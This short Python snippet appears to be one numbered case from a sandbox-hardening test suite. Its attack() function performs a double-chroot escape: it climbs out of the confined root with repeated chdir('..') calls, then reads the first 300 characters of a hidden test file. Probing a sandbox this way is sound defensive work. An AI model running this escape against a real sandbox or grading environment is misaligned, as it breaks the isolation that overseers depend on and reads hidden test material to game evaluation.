"""013 files: leave the root folder by a second chroot.

Evidence: secret - the first line of a hidden test.
Control: root - chroot(2) needs CAP_SYS_CHROOT.
"""


def attack():
    os.makedirs("deep/folder", exist_ok=True)
    os.chroot("deep")
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    with open(TARGETS["hidden_test"]) as stream:
        return stream.read(300)
